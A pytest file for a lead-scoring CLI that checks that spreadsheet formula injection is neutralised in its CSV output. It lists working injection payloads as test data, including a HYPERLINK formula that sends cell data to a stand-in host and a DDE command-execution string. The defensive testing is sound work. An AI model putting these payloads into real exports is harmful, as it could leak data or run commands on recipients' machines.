"""Control 12: no text of a CRM or of a rules file becomes a formula in a file for a spreadsheet."""

import csv
import subprocess
import sys
from pathlib import Path

import pytest

from rescore.cells import harmless

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1)',
    "+SUM(1)",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＠SUM(A1)",
]

RULES = """\
scorecard: tiny
dimensions: {engagement: {}}
rules: [{id: titled, dimension: engagement, lead: {job_title: {exists: true}}, points: -2}]
bands: {"=A": 5, "+B": -99}
"""


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_a_text_that_would_begin_a_formula_begins_with_a_quote(text):
    assert harmless([text]) == [f"'{text}"]


def test_everything_else_stays_as_it_is():
    row = ["hubspot:7", "a=b", "", -5, -2.5, None, "A"]
    assert harmless(row) == row


def test_scores_in_a_csv_hold_no_formula(tmp_path):
    (tmp_path / "rules.yaml").write_text(RULES)
    with (tmp_path / "leads.csv").open("w", newline="") as file:
        csv.writer(file).writerows([["lead_id", "job_title"], *([text, "CEO"] for text in FORMULAS)])
    (tmp_path / "activities.csv").write_text("activity_id,lead_id,type,occurred_at\n")
    files = {name: tmp_path / f"{name}.csv" for name in ("leads", "activities", "out")}
    given = [part for name, path in files.items() for part in (f"--{name}", path)]
    rescore = Path(sys.executable).parent / "rescore"
    command = [rescore, "score", "--rules", tmp_path / "rules.yaml", "--as-of", "2026-11-01", *given]
    run = subprocess.run(command, check=True, capture_output=True, text=True)
    with files["out"].open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert {row["band"] for row in rows} == {"'+B"}
    assert {row["lead_id"][0] for row in rows} == {"'"}
    assert {row["score"] for row in rows} == {"-2"}, "numbers are numbers"
    assert f"{2 * len(FORMULAS)} cells of" in run.stderr
    assert files["out"].stat().st_mode & 0o077 == 0, "lead data is for whoever asked for it"
